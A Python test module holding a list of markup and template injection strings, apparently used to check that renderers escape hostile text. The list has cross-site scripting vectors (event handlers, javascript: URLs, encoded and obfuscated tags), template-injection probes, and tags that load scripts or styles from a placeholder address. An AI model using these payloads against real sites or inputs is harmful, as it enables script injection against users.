"""Texts that try to become more than text where they are shown: markup, scripts, templates, look-alikes."""

PAYLOADS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</style><script>alert(1)</script>",
    '"><script>alert(1)</script>', "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="', "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "javascript:alert(1)", "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>",
    "<math><mtext></table></math><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x", "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=http://192.0.2.1/>", "<link rel=stylesheet href=http://192.0.2.1/x.css>", "<base href=http://192.0.2.1/>",
    "<style>@import 'http://192.0.2.1/x.css';</style>", "<img src=http://192.0.2.1/x.png>", "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</details><script>alert(1)</script>", "</mark></p><script>alert(1)</script>",
    "{{ 7*7 }}", "{% for x in range(9) %}a{% endfor %}", "{{ self.__init__.__globals__ }}", "${alert(1)}", "`${alert(1)}`", "\\u003cscript\\u003ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//192.0.2.1/x.js></SCRIPT>", "<script\x0c>alert(1)</script>", "<img/src=x/onerror=alert(1)>", "<svg><script>alert&lpar;1&rpar;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'>", "data:text/html,<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>", "<\u200bscript>alert(1)</script>", "＜script＞alert(1)＜/script＞", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<p style=background:url(http://192.0.2.1/)>", '<div style="width:expression(alert(1))">', "<xss onpointerover=alert(1) style=position:fixed;inset:0>x",
    '"><svg/onload=alert(1)//', "' autofocus tabindex=1 onfocus=alert(1) x='",
]  # fmt: skip
